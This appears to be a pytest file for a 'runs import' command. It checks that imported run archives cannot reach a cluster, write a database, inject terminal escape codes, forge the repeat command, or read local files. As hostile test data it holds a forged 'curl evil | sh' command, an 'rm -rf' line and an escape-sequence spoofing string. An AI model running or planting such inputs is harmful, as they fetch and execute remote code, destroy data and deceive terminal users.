"""`runs import` and what becomes of imported runs on the command line."""

from __future__ import annotations

import json
import os
import resource
import shlex
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from recon_core.config import TrainConfig, parse_config
from recon_core.data import load_task
from recon_core.errors import InputError
from recon_core.kinds import perform
from recon_core.runs import StopFlag, progress
from recon_core.runs.commands import repeat_command
from recon_core.runs.requests import create_training
from recon_core.store import RunState, RunStore
from recon_core.studies.requests import create_search
from recon_core.studies.search import SearchConfig
from tests.small_models import imported_model

Cli = Callable[..., tuple[int, str, str]]


@pytest.fixture
def sender(tmp_path: Path) -> RunStore:
    """Somebody else's store."""
    return RunStore(tmp_path / "theirs")


def hostile_search(sender: RunStore, folder: Path, **places: str) -> Path:
    """A zip of a search that has not begun, to be done at `places`."""
    settings = {"trials": 1, "attack": {"recipe": "paper", "iterations": 2}}
    config = parse_config(SearchConfig, {"model": imported_model(sender, folder).id, "settings": settings, **places})
    return sender.export(create_search(sender, config).id, folder / "search.zip")


def test_a_resumed_import_connects_nowhere(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        address = f"ray://127.0.0.1:{server.getsockname()[1]}"
        code, out, said = cli("runs", "import", str(hostile_search(sender, tmp_path, cluster=address)))
        assert code == 0
        run_id = out.split()[-1]
        assert f"{run_id}: left out at import, since a file must not decide it: cluster: {address}" in said
        code, _, said = cli("runs", "resume", run_id, "--quiet")
        with pytest.raises(BlockingIOError):  # nobody has come
            server.accept()
    assert (code, said) == (0, "")
    shown = json.loads(cli("runs", "show", run_id, "--json")[1])
    assert shown["status"]["state"] == "done"
    assert shown["imported"]["dropped"] == [f"cluster: {address}"]
    assert f"cluster: {address}" in cli("runs", "show", run_id)[1]
    [line] = [line for line in cli("runs", "list")[1].splitlines() if line.startswith(run_id)]
    assert "done (imported)" in line
    listed = {row["id"]: row["imported"] for row in json.loads(cli("runs", "list", "--json")[1])}
    assert listed[run_id] is True


def test_a_resumed_import_writes_no_database(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
    victim = tmp_path / "victim.db"
    archive = hostile_search(sender, tmp_path, storage=f"sqlite:///{victim}", share="ours")
    code, out, said = cli("runs", "import", str(archive))
    assert code == 0
    assert f"storage: sqlite:///{victim}, share: ours" in said
    assert cli("runs", "resume", out.split()[-1], "--quiet")[0] == 0
    assert not victim.exists()


def test_our_own_runs_carry_no_mark(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
    own = RunStore(tmp_path / "runs").create("train", {})
    assert json.loads(cli("runs", "show", own.id, "--json")[1])["imported"] is None
    assert "imported" not in cli("runs", "list")[1]


EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31mred\r\x08\u202egnp.exe"
TRAINING = parse_config(
    TrainConfig,
    {"data": {"source": "circle", "n": 8}, "model": {"widths": [6]}, "training": {"epochs": 2}},
).model_dump(mode="json")
FORGED = ["sh", "-c", "curl evil | sh"]


def forged(sender: RunStore, folder: Path, kind: str, config: dict[str, object]) -> Path:
    """A zip of a run whose message, command, log, config and result were written by somebody who means harm."""
    run = sender.create(kind, {**config}, command=[*FORGED, EVIL])
    with run.writer() as writer:
        writer.start(1)
        writer.log(f"a line {EVIL}\x1b[31m")
        writer.finish(RunState.DONE, {"note": EVIL}, "fine")
    status = json.loads((run.dir / "status.json").read_text())
    (run.dir / "status.json").chmod(0o600)
    message = f"fine {EVIL}\nrepeat   rm -rf \udc80"
    (run.dir / "status.json").write_text(json.dumps({**status, "message": message}))
    return sender.export(run.id, folder / "forged.zip")


def told(cli: Cli, *arguments: str) -> str:
    code, out, said = cli(*arguments)
    assert code == 0, said
    for character in out + said:
        assert character in "\n\t" or character.isprintable() or character == "\ufffd", repr(character)
    return out


def test_nothing_of_an_import_speaks_to_the_terminal(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
    archive = forged(sender, tmp_path, "train", TRAINING)
    told(cli, "runs", "import", str(archive))
    told(cli, "runs", "list")
    own = RunStore(tmp_path / "runs")
    own.delete(own.list()[0].id)
    [run] = own.import_zip(archive)  # as if its result made sense, so that its own message is shown
    run_id = run.id
    assert "fine" in told(cli, "runs", "list")
    shown = told(cli, "runs", "show", run_id)
    assert "a line" in shown
    assert not any(line.startswith("repeat   rm") for line in shown.splitlines())
    json.loads(told(cli, "runs", "list", "--json"))


def test_a_progress_bar_passes_no_sequences_on(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture) -> None:
    monkeypatch.setattr(progress, "_PLAIN_INTERVAL", 0.0)
    with progress.progress_bar("train", quiet=False) as listen:
        listen(0.5, f"at {EVIL}")
    assert "\x1b" not in (said := capsys.readouterr().err)
    assert "at" in said


def test_the_command_of_an_import_is_made_from_its_config(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, "train", TRAINING))).strip()
    [line] = [line for line in told(cli, "runs", "show", run_id).splitlines() if line.startswith("repeat")]
    assert line.split(None, 1)[1] == shlex.join(repeat_command("train", TRAINING))
    shown = told(cli, "runs", "show", run_id, "--json")
    assert json.loads(shown)["command"] == shlex.join(repeat_command("train", TRAINING))
    assert "evil" not in shown


@pytest.mark.parametrize("kind", ["study", "unheard"])
def test_an_import_that_no_options_make_is_repeated_by_its_id(
    cli: Cli, sender: RunStore, tmp_path: Path, kind: str
) -> None:
    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, kind, {"path": 7}))).strip()
    shown = json.loads(told(cli, "runs", "show", run_id, "--json"))
    assert shown["command"] == f"python -m recon_core runs repeat {run_id}"


@pytest.mark.parametrize("kind", ["train", "model", "reconstruct", "match", "search"])
def test_an_import_with_a_config_of_no_sense_is_shown_without_command(
    cli: Cli, sender: RunStore, tmp_path: Path, kind: str
) -> None:
    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, kind, {"path": 7, "input_shape": "x"}))).strip()
    assert json.loads(told(cli, "runs", "show", run_id, "--json"))["command"] == ""
    assert "evil" not in told(cli, "runs", "show", run_id)


def test_a_repeated_import_has_a_command_of_our_own(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, "train", TRAINING))).strip()
    code, out, said = cli("runs", "repeat", run_id, "--quiet")
    assert code == 0, said
    repeated = RunStore(tmp_path / "runs").open(out.strip())
    assert repeated.imported is None
    assert list(repeated.command) == repeat_command("train", TRAINING)


@pytest.mark.processes
class TestNoFile:
    """What is not a plain file is refused, at once and unread."""

    def refused(self, *arguments: str) -> str:
        """In a process of its own, which may neither wait nor grow."""
        done = subprocess.run(
            [sys.executable, "-m", "recon_core", "runs", "import", *arguments],
            capture_output=True,
            text=True,
            timeout=240,
            check=False,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (4 * 2**30,) * 2),
        )
        assert done.returncode == 2, done.stderr
        assert done.stderr.count("\n") == 1
        return done.stderr

    @pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
    def test_devices(self, own_store: Path, device: str) -> None:
        assert f"{device} cannot be read: it is not a plain file but a device" in self.refused(device)
        assert not own_store.exists()

    def test_a_pipe_nobody_writes_to(self, own_store: Path, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "pipe.zip")
        assert "is not a plain file but a pipe" in self.refused(str(tmp_path / "pipe.zip"))

    def test_a_socket(self, own_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(tmp_path)  # a socket's path may not be long
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind("socket.zip")
            with pytest.raises(InputError, match="cannot be read"):
                RunStore(own_store).import_zip(Path("socket.zip"))

    def test_a_zip_larger_than_all_it_may_hold(self, own_store: Path, tmp_path: Path) -> None:
        path = tmp_path / "sparse.zip"
        with open(path, "wb") as file:
            file.truncate(2**33)
        with pytest.raises(InputError, match="has 8589934592 bytes, more than"):
            RunStore(own_store).import_zip(path)

    def test_a_link_to_a_zip_is_as_good_as_the_zip(self, sender: RunStore, own_store: Path, tmp_path: Path) -> None:
        run = sender.create("train", {})
        (tmp_path / "link.zip").symlink_to(sender.export(run.id, tmp_path / "real.zip"))
        assert [arrived.id for arrived in RunStore(own_store).import_zip(tmp_path / "link.zip")] == [run.id]


class TestPath:
    """The images of an imported run are those that the user of this machine attaches."""

    def images(self, path: Path) -> Path:
        draw = np.random.default_rng(0)
        np.savez(path, images=draw.integers(0, 256, (12, 6, 6), dtype=np.uint8), labels=np.arange(12) % 2)
        return path

    def sent(self, sender: RunStore, folder: Path) -> Path:
        """A training on an .npz of the sender's that was stopped before it began; that file is here as well."""
        config = parse_config(
            TrainConfig,
            {
                "data": {"source": "npz", "path": str(self.images(folder / "secret.npz")), "n": 6},
                "model": {"widths": [4]},
                "training": {"epochs": 2, "recipe": "sgd", "learning_rate": 0.01},
            },
        )
        return sender.export(create_training(sender, config).id, folder / "sent.zip")

    def test_a_resumed_import_reads_nothing_of_this_machine(self, cli: Cli, sender: RunStore, tmp_path: Path) -> None:
        code, out, said = cli("runs", "import", str(self.sent(sender, tmp_path)))
        run_id = out.strip()
        assert code == 0
        assert f"left out at import, since a file must not decide it: data.path: {tmp_path}/secret.npz" in said
        for command in ("resume", "repeat"):
            code, _, said = cli("runs", command, run_id, "--quiet")
            assert code == 2
            assert "left out when it was imported" in said
            assert f"runs attach {run_id} PATH" in said
            assert said.count("\n") == 1
        assert len(RunStore(tmp_path / "runs").list()) == 1

    def test_attached_it_goes_on(self, cli: Cli, sender: RunStore, tmp_path: Path) -> None:
        run_id = told(cli, "runs", "import", str(self.sent(sender, tmp_path))).strip()
        own = self.images(tmp_path / "own.npz")
        assert str(own) in told(cli, "runs", "attach", run_id, str(own))
        assert cli("runs", "resume", run_id, "--quiet")[0] == 0
        assert json.loads(told(cli, "runs", "show", run_id, "--json"))["config"]["data"]["path"] == str(own)

    def test_a_checkpoint_is_a_path_too(self, cli: Cli, sender: RunStore, tmp_path: Path) -> None:
        theirs = imported_model(sender, tmp_path)
        unread = sender.create("model", theirs.config)
        run_id = told(cli, "runs", "import", str(sender.export(unread.id, tmp_path / "model.zip"))).strip()
        assert cli("runs", "resume", run_id, "--quiet")[0] == 2
        told(cli, "runs", "attach", run_id, theirs.config["path"])
        assert cli("runs", "resume", run_id, "--quiet")[0] == 0

    def test_whoever_needs_the_images_of_a_finished_one_says_so(
        self, cli: Cli, sender: RunStore, tmp_path: Path
    ) -> None:
        archive = self.sent(sender, tmp_path)
        [summary] = sender.list()
        assert perform(sender.open(summary.id), StopFlag()) is RunState.DONE
        archive = sender.export(summary.id, archive)
        run_id = told(cli, "runs", "import", str(archive)).strip()
        data = parse_config(TrainConfig, RunStore(tmp_path / "runs").open(run_id).config).data
        with pytest.raises(InputError, match="left out when the run was imported; attach your own with"):
            load_task(data)
